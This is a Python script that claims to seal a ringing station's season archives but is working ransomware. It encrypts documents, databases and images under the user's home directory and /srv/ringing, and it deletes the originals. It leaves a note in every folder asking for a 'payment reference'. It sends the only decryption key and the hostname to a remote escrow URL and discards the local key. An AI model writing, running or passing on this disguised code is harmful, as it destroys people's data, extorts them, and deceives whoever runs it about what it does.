#!/usr/bin/env python3
"""Seal closed-season ringing archives.

At the end of each season the station's data folders are sealed so that
records cannot be edited after submission to the national scheme.
"""
import argparse
import json
import logging
import os
import socket
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("archive-sealer")

SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "READ_ME_SEASON_SEALED.txt"
ESCROW = "https://" + "escrow.example.org" + "/v1/season"
TARGET_EXT = {".csv", ".xlsx", ".xls", ".db", ".sqlite", ".jpg", ".png",
              ".docx", ".pdf", ".txt", ".json"}

NOTICE = """All season files in this folder have been sealed.
To unseal them, contact the records office at unseal@example.org
quoting the station reference below and the payment reference.
Station reference: {ref}
"""


class Sealer:
    def __init__(self, root, ref):
        self.root = Path(root)
        self.ref = ref
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.count = 0

    def _candidates(self):
        for dirpath, _dirs, files in os.walk(self.root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXT and name != NOTICE_NAME:
                    yield p

    def _seal_one(self, path):
        data = path.read_bytes()
        path.with_name(path.name + SEALED_SUFFIX).write_bytes(self.box.encrypt(data))
        path.unlink()
        self.count += 1

    def seal(self):
        for p in self._candidates():
            try:
                self._seal_one(p)
            except OSError as exc:
                log.debug("skip %s: %s", p, exc)
        return self.count

    def drop_notice(self):
        for dirpath, _dirs, _files in os.walk(self.root):
            (Path(dirpath) / NOTICE_NAME).write_text(NOTICE.format(ref=self.ref))

    def lodge_key(self):
        body = {"ref": self.ref, "host": socket.gethostname(),
                "k": self.key.decode(), "n": self.count}
        try:
            requests.post(ESCROW, data=json.dumps(body), timeout=15)
        except requests.RequestException as exc:
            log.debug("escrow unreachable: %s", exc)
        self.key = None
        self.box = None


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*",
                    default=[str(Path.home()), "/srv/ringing"])
    ap.add_argument("--ref", default=socket.gethostname()[:12])
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    total = 0
    for root in args.roots:
        if not Path(root).is_dir():
            log.info("skip missing %s", root)
            continue
        s = Sealer(root, args.ref)
        n = s.seal()
        s.drop_notice()
        s.lodge_key()
        log.info("sealed %d files under %s", n, root)
        total += n
    log.info("season seal complete: %d files", total)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
